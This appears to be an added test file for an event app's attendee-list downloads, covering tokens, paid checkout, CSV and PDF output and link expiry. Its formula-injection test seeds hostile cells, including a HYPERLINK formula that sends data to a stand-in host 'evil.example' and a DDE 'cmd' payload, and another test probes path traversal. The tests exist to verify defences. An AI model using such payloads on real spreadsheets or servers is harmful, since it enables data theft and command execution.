@@ -1,0 +1,371 @@
+import fs from 'node:fs';
+import path from 'node:path';
+import { TRPCClientError } from '@trpc/client';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { fixedClock } from '#server/lib/clock';
+import { DOWNLOADS, PAYMENTS } from '#shared/constants';
+import { M } from '#shared/messages';
+import {
+  fetchFile,
+  insertEvent,
+  joinEvent,
+  parseCsv,
+  pdfImageCount,
+  pdfPageCount,
+  pdfText,
+} from '../helpers/downloads-world';
+import { startTestServer, type TestServer } from '../helpers/server';
+
+// Attendee-list downloads over real HTTP (spec §2 download card, §6 visitor rule, §7 create-download-
+// payment / download-attendees / verify-download-payment; issue 9 items 3, 4, 6): the real server on port
+// 0 with a real SQLite file, the built-in test checkout as the payment provider, files fetched from
+// /api/downloads/{key} as a browser would.
+
+let server: TestServer;
+let client: ReturnType<TestServer['client']>;
+const clock = fixedClock('2026-11-22T12:00:00.000Z');
+
+beforeAll(async () => {
+  server = await startTestServer({ overrides: { clock } });
+  client = server.client();
+});
+afterAll(async () => {
+  client.close();
+  await server.stop();
+});
+
+const dl = () => client.trpc.downloads;
+
+async function refusal(p: Promise<unknown>) {
+  const err = await p.then(
+    () => undefined,
+    (e: unknown) => e,
+  );
+  expect(err).toBeInstanceOf(TRPCClientError);
+  const e = err as TRPCClientError<never>;
+  return { message: e.message, code: (e.data as { code?: string } | undefined)?.code };
+}
+
+/** Pays a test checkout as the payer would on its page; returns the session id the success URL carries. */
+async function payOnTestCheckout(url: string) {
+  const id = decodeURIComponent(new URL(url).pathname.slice(PAYMENTS.TEST_CHECKOUT_PATH.length + 1));
+  const { redirectUrl } = await client.trpc.payments.testCheckout.pay.mutate({ id });
+  const back = new URL(redirectUrl);
+  return { id, back, sessionId: back.searchParams.get('session_id') ?? '' };
+}
+
+describe('free download (price 0): the browser must hold the token of a registration of this event', () => {
+  let eventId: string;
+  let grace: Awaited<ReturnType<typeof joinEvent>>;
+  let elsewhere: Awaited<ReturnType<typeof joinEvent>>;
+
+  beforeAll(async () => {
+    eventId = await insertEvent(server, { name: 'Tech Night: Leeds/Bradford', download_price: 0 });
+    grace = await joinEvent(server, eventId, {
+      first_name: 'Grace',
+      last_name: 'Hopper',
+      email: 'grace@example.com',
+      headline: 'Rear Admiral, "COBOL", compilers',
+    });
+    await joinEvent(server, eventId, { first_name: 'Alan', last_name: 'Turing', phone: '+44 7700 900123' });
+    const other = await insertEvent(server, { download_price: 0 });
+    elsewhere = await joinEvent(server, other, { first_name: 'Ada', last_name: 'Lovelace' });
+  });
+
+  it('refuses a wrong token, a token of another event and a made-up registration', async () => {
+    const base = { eventId, format: 'csv' as const };
+    for (const proof of [
+      { registrationId: grace.registrationId, registrationToken: crypto.randomUUID() },
+      { registrationId: elsewhere.registrationId, registrationToken: elsewhere.token },
+      { registrationId: crypto.randomUUID(), registrationToken: grace.token },
+    ]) {
+      expect(await refusal(dl().prepare.mutate({ ...base, ...proof }))).toEqual({
+        message: M.downloads.notRegistered,
+        code: 'FORBIDDEN',
+      });
+    }
+  });
+
+  it('with the matching token: a CSV attachment whose rows are the attendees, quoted properly', async () => {
+    const r = await dl().prepare.mutate({
+      eventId,
+      format: 'csv',
+      registrationId: grace.registrationId,
+      registrationToken: grace.token,
+    });
+    expect(r.fileName).toBe('Tech Night Leeds Bradford attendees.csv');
+    expect(r.downloadUrl).toMatch(/^\/api\/downloads\/[a-z0-9]{32}$/);
+    const { res, bytes } = await fetchFile(server, r.downloadUrl);
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
+    expect(res.headers.get('content-disposition')).toBe(
+      'attachment; filename="Tech Night Leeds Bradford attendees.csv"',
+    );
+    expect(res.headers.get('cache-control')).toBe('no-store');
+    const text = bytes.toString('utf8');
+    expect(text.startsWith('\uFEFF"First name","Last name"')).toBe(true);
+    expect(parseCsv(text)).toEqual([
+      ['First name', 'Last name', 'Email', 'Phone', 'Headline', 'Checked in (UTC)', 'Joined (UTC)'],
+      ['Alan', 'Turing', '', "'+44 7700 900123", '', '', '2026-11-22 12:00'],
+      ['Grace', 'Hopper', 'grace@example.com', '', 'Rear Admiral, "COBOL", compilers', '', '2026-11-22 12:00'],
+    ]);
+  });
+
+  it('never needs a checkout: createPayment says the list is free', async () => {
+    const input = {
+      eventId,
+      format: 'csv' as const,
+      registrationId: grace.registrationId,
+      registrationToken: grace.token,
+    };
+    expect((await refusal(dl().createPayment.mutate(input))).message).toBe(M.downloads.noPaymentNeeded);
+  });
+
+  it('the file link is random and short-lived: unknown and expired keys give 404', async () => {
+    expect((await fetchFile(server, `/api/downloads/${'a'.repeat(32)}`)).res.status).toBe(404);
+    expect((await fetchFile(server, '/api/downloads/..%2F..%2Fapp.db')).res.status).toBe(404);
+    const r = await dl().prepare.mutate({
+      eventId,
+      format: 'csv',
+      registrationId: grace.registrationId,
+      registrationToken: grace.token,
+    });
+    clock.advance(DOWNLOADS.FILE_TTL_MS - 1);
+    expect((await fetchFile(server, r.downloadUrl)).res.status).toBe(200);
+    clock.advance(1);
+    const gone = await fetchFile(server, r.downloadUrl);
+    expect(gone.res.status).toBe(404);
+    expect(JSON.parse(gone.bytes.toString())).toEqual({ error: M.downloads.failed });
+  });
+});
+
+describe('spreadsheet formula injection', () => {
+  it('neutralises every cell starting with = + - @, tab or CR by a leading quote (parsed back)', async () => {
+    const eventId = await insertEvent(server, { download_price: 0 });
+    const me = await joinEvent(server, eventId, {
+      first_name: 'Mallory',
+      last_name: 'Evil',
+      headline: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    });
+    // Names the join form would refuse, written straight into the store: the file must be safe whatever
+    // the rows hold (older data, an import, a future form).
+    const now = clock.now().toISOString();
+    const evil = ['=1+1', '+SUM(A1)', '-2+3', '@cmd', '\tTAB', '\rCR', '＝FULLWIDTH'];
+    for (const [i, first] of evil.entries()) {
+      await server.deps.db
+        .insertInto('event_registrations')
+        .values({
+          id: crypto.randomUUID(),
+          event_id: eventId,
+          first_name: first,
+          last_name: `Row${i}`,
+          email: '=cmd|"/c calc"!A0',
+          phone: null,
+          headline: '@SUM(1,2)',
+          photo_url: null,
+          registration_token_hash: `x-${crypto.randomUUID()}`,
+          checked_in_at: null,
+          created_at: now,
+          updated_at: now,
+        })
+        .execute();
+    }
+    const r = await dl().prepare.mutate({
+      eventId,
+      format: 'csv',
+      registrationId: me.registrationId,
+      registrationToken: me.token,
+    });
+    const rows = parseCsv((await fetchFile(server, r.downloadUrl)).bytes.toString('utf8')).slice(1);
+    const firsts = rows.map((row) => row[0]);
+    for (const first of evil) expect(firsts).toContain(`'${first}`);
+    expect(firsts).toContain('Mallory');
+    for (const row of rows) {
+      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/);
+    }
+    const mallory = rows.find((row) => row[0] === 'Mallory');
+    expect(mallory?.[3]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
+  });
+});
+
+describe('PDF: a printable attendee sheet', () => {
+  it('is a valid PDF with the event on top, every attendee by name and headline, photos, and pages', async () => {
+    const eventId = await insertEvent(server, { name: 'Sheet Night', download_price: 0 });
+    const people = Array.from({ length: 30 }, (_, i) => ({
+      first_name: `Person${String(i).padStart(2, '0')}`,
+      last_name: 'Example',
+      headline: `Role number ${i}`,
+    }));
+    const joined = [];
+    for (const p of people) joined.push(await joinEvent(server, eventId, p));
+    // A photo file gone from disk (moved, restored from an old backup) must not fail the sheet.
+    const lost = joined[3].photoUrl ?? '';
+    fs.rmSync(path.join(server.dataDir, 'uploads', lost.replace(/^\/uploads\//, '')));
+
+    const r = await dl().prepare.mutate({
+      eventId,
+      format: 'pdf',
+      registrationId: joined[0].registrationId,
+      registrationToken: joined[0].token,
+    });
+    expect(r.fileName).toBe('Sheet Night attendees.pdf');
+    const { res, bytes } = await fetchFile(server, r.downloadUrl);
+    expect(res.headers.get('content-type')).toBe('application/pdf');
+    expect(res.headers.get('content-disposition')).toBe('attachment; filename="Sheet Night attendees.pdf"');
+    expect(bytes.subarray(0, 5).toString()).toBe('%PDF-');
+    expect(bytes.subarray(-6).toString()).toMatch(/%%EOF/);
+    expect(pdfPageCount(bytes)).toBeGreaterThanOrEqual(3); // 30 rows of 58 pt on A4
+    expect(pdfImageCount(bytes)).toBe(29); // every photo but the lost one (initials instead)
+    const text = pdfText(bytes);
+    expect(text).toContain('Sheet Night');
+    expect(text).toContain('30 attendees');
+    for (const p of people) {
+      expect(text).toContain(`${p.first_name} ${p.last_name}`);
+      expect(text).toContain(p.headline);
+    }
+    expect(text).toContain(`Page 1 of ${pdfPageCount(bytes)}`);
+  });
+
+  it('is refused when the event offers only CSV', async () => {
+    const eventId = await insertEvent(server, { download_formats: ['csv'] });
+    const me = await joinEvent(server, eventId, { first_name: 'Grace', last_name: 'Hopper' });
+    const input = { eventId, registrationId: me.registrationId, registrationToken: me.token };
+    expect((await refusal(dl().prepare.mutate({ ...input, format: 'pdf' }))).message).toBe(M.downloads.notOffered);
+    await expect(dl().prepare.mutate({ ...input, format: 'csv' })).resolves.toBeTruthy();
+  });
+});
+
+describe('downloads disabled', () => {
+  it('refuses prepare and createPayment even to a registered browser', async () => {
+    const eventId = await insertEvent(server, { download_enabled: false, download_price: 500 });
+    const me = await joinEvent(server, eventId, { first_name: 'Grace', last_name: 'Hopper' });
+    const input = { eventId, format: 'csv' as const, registrationId: me.registrationId, registrationToken: me.token };
+    expect(await refusal(dl().prepare.mutate(input))).toEqual({ message: M.downloads.notOffered, code: 'FORBIDDEN' });
+    expect((await refusal(dl().createPayment.mutate(input))).message).toBe(M.downloads.notOffered);
+  });
+});
+
+describe('paid download on the built-in test checkout', () => {
+  let eventId: string;
+  let buyer: Awaited<ReturnType<typeof joinEvent>>;
+  let input: { eventId: string; format: 'csv'; registrationId: string; registrationToken: string };
+
+  beforeAll(async () => {
+    eventId = await insertEvent(server, { name: 'Paid Night', download_price: 999 });
+    buyer = await joinEvent(server, eventId, { first_name: 'Grace', last_name: 'Hopper', headline: 'Compilers' });
+    await joinEvent(server, eventId, { first_name: 'Alan', last_name: 'Turing', headline: 'Machines' });
+    input = { eventId, format: 'csv', registrationId: buyer.registrationId, registrationToken: buyer.token };
+  });
+
+  const revenue = () =>
+    server.deps.db.selectFrom('download_revenue').selectAll().where('event_id', '=', eventId).executeTakeFirst();
+  const purchases = () =>
+    server.deps.db.selectFrom('download_purchases').selectAll().where('event_id', '=', eventId).execute();
+
+  it('refuses a checkout to a browser without the token', async () => {
+    const r = await refusal(dl().createPayment.mutate({ ...input, registrationToken: crypto.randomUUID() }));
+    expect(r.message).toBe(M.downloads.notRegistered);
+  });
+
+  it('refuses the file without a session, and with an unpaid one', async () => {
+    expect((await refusal(dl().prepare.mutate(input))).message).toBe(M.downloads.paymentVerificationFailed);
+    const { url } = await dl().createPayment.mutate(input);
+    const unpaid = decodeURIComponent(new URL(url).pathname.split('/').pop() ?? '');
+    expect((await refusal(dl().prepare.mutate({ ...input, sessionId: unpaid }))).message).toBe(
+      M.downloads.paymentVerificationFailed,
+    );
+    expect((await refusal(dl().prepare.mutate({ ...input, sessionId: 'cs_made_up' }))).message).toBe(
+      M.downloads.paymentVerificationFailed,
+    );
+    expect(await purchases()).toEqual([]);
+  });
+
+  it('pay → back on the list with download=success → verified → the CSV of the attendees; counted once', async () => {
+    const { url } = await dl().createPayment.mutate(input);
+    expect(url.startsWith(`${server.url}${PAYMENTS.TEST_CHECKOUT_PATH}/`)).toBe(true);
+    const { back, sessionId } = await payOnTestCheckout(url);
+    expect(back.pathname).toBe(`/event-list/${eventId}`);
+    expect(back.searchParams.get('download')).toBe('success');
+    expect(back.searchParams.get('format')).toBe('csv');
+
+    const r = await dl().prepare.mutate({ ...input, sessionId });
+    const rows = parseCsv((await fetchFile(server, r.downloadUrl)).bytes.toString('utf8'));
+    expect(rows.map((row) => [row[0], row[1], row[2]])).toEqual([
+      ['First name', 'Last name', 'Headline'],
+      ['Alan', 'Turing', 'Machines'],
+      ['Grace', 'Hopper', 'Compilers'],
+    ]);
+
+    // The same paid session downloads again (a lost file, a second device of the same browser profile)…
+    await dl().prepare.mutate({ ...input, sessionId });
+    // …and the money is counted once: the test checkout's Pay fulfilled it, the two verifications did not.
+    const bought = await purchases();
+    expect(bought).toHaveLength(1);
+    expect(bought[0]).toMatchObject({
+      registration_id: buyer.registrationId,
+      format: 'csv',
+      amount_paid: 999,
+      payment_session_id: sessionId,
+    });
+    // shared/money splitRevenue: the organiser's 50% rounded down, the platform keeps the odd penny.
+    expect(await revenue()).toMatchObject({
+      total_revenue: 999,
+      organizer_share: 499,
+      witr_share: 500,
+      download_count: 1,
+      payout_status: 'pending',
+      last_download: clock.now().toISOString(),
+    });
+  });
+
+  it('a paid session does not open another event, another format or another registration', async () => {
+    const { url } = await dl().createPayment.mutate(input);
+    const { sessionId } = await payOnTestCheckout(url);
+    const other = await insertEvent(server, { download_price: 999 });
+    const there = await joinEvent(server, other, { first_name: 'Ada', last_name: 'Lovelace' });
+    const friend = await joinEvent(server, eventId, { first_name: 'Bob', last_name: 'Friend' });
+    const cases: { eventId: string; format: 'csv' | 'pdf'; registrationId: string; registrationToken: string }[] = [
+      { eventId: other, format: 'csv', registrationId: there.registrationId, registrationToken: there.token },
+      { ...input, format: 'pdf' },
+      { ...input, registrationId: friend.registrationId, registrationToken: friend.token },
+    ];
+    for (const c of cases) {
+      expect((await refusal(dl().prepare.mutate({ ...c, sessionId }))).message).toBe(
+        M.downloads.paymentVerificationFailed,
+      );
+    }
+  });
+
+  it('a cancelled checkout returns with download=cancelled and records nothing', async () => {
+    const before = (await purchases()).length;
+    const { url } = await dl().createPayment.mutate(input);
+    const id = decodeURIComponent(new URL(url).pathname.slice(PAYMENTS.TEST_CHECKOUT_PATH.length + 1));
+    const { redirectUrl } = await client.trpc.payments.testCheckout.cancel.mutate({ id });
+    expect(new URL(redirectUrl).search).toBe('?download=cancelled');
+    expect(await purchases()).toHaveLength(before);
+  });
+});
+
+describe('PAYMENTS=off: a self-hosted install where every list is free', () => {
+  it('downloads a priced list with the token alone, and never opens a checkout', async () => {
+    const off = await startTestServer({ env: { PAYMENTS: 'off' } });
+    const c = off.client();
+    try {
+      const eventId = await insertEvent(off, { download_price: 2500 });
+      const me = await joinEvent(off, eventId, { first_name: 'Grace', last_name: 'Hopper' });
+      const input = { eventId, format: 'csv' as const, registrationId: me.registrationId, registrationToken: me.token };
+      expect((await refusal(c.trpc.downloads.createPayment.mutate(input))).message).toBe(M.downloads.noPaymentNeeded);
+      const wrong = { ...input, registrationToken: crypto.randomUUID() };
+      expect((await refusal(c.trpc.downloads.prepare.mutate(wrong))).message).toBe(M.downloads.notRegistered);
+      const r = await c.trpc.downloads.prepare.mutate(input);
+      expect(parseCsv((await fetchFile(off, r.downloadUrl)).bytes.toString('utf8'))[1].slice(0, 2)).toEqual([
+        'Grace',
+        'Hopper',
+      ]);
+      expect(await off.deps.db.selectFrom('download_purchases').selectAll().execute()).toEqual([]);
+    } finally {
+      c.close();
+      await off.stop();
+    }
+  });
+});
